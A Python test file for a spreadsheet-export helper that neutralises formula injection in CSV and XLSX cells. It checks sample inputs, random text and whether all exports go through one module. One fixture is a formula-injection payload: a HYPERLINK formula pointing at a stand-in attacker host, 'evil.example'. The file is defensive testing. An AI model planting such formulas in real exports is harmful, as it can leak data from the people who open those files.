"""Issue 12 item 5: one function neutralises formulas in every CSV and XLSX cell."""

from __future__ import annotations

import ast
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.exports import FORMULA_STARTS, append_xlsx_row, csv_bytes, safe_cell

ROOT = Path(__file__).resolve().parent.parent.parent


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x","江门市殡仪馆")',
            '\'=HYPERLINK("http://evil.example/?x","江门市殡仪馆")',
        ),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-350.00", "-350.00"),  # a number written as text stays a number
        ("+5", "+5"),
        ("12", "12"),
        ("江门市殡仪馆", "江门市殡仪馆"),
        ("a=b", "a=b"),
        ("", ""),
        (-350, -350),
        (1.5, 1.5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (None, None),
        (dt.date(2026, 3, 1), dt.date(2026, 3, 1)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@given(st.text())
def test_no_text_cell_can_start_a_formula_unless_it_is_a_number(text):
    cell = safe_cell(text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only plain decimal numbers keep their sign
    assert cell in (text, "'" + text)


def test_csv_and_xlsx_carry_no_live_formula():
    from openpyxl import Workbook, load_workbook

    rows = [["殡仪馆", "金额"], ["=1+1", "-350.00"], ["@cmd", -5]]
    text = csv_bytes(rows).decode("utf-8-sig")
    assert text == "殡仪馆,金额\r\n'=1+1,-350.00\r\n'@cmd,-5\r\n"
    book = Workbook()
    for row in rows:
        append_xlsx_row(book.active, row)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[1][0] == "'=1+1" and sheet["A2"].data_type == "s"
    assert cells[2] == ["'@cmd", -5]


def test_every_export_goes_through_core_exports():
    """``csv.writer`` and worksheet ``append`` appear nowhere else in the application."""
    offenders = []
    for path in [*ROOT.joinpath("core").rglob("*.py"), *ROOT.joinpath("plugins").rglob("*.py")]:
        if path == ROOT / "core" / "exports.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if isinstance(node, ast.Name) and node.id in ("Workbook", "xlsxwriter"):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} (workbook)")
    allowed = {"core/web/dashboard.py"}  # builds its workbook, fills it with append_xlsx_row
    assert [o for o in offenders if o.split(":")[0] not in allowed] == []
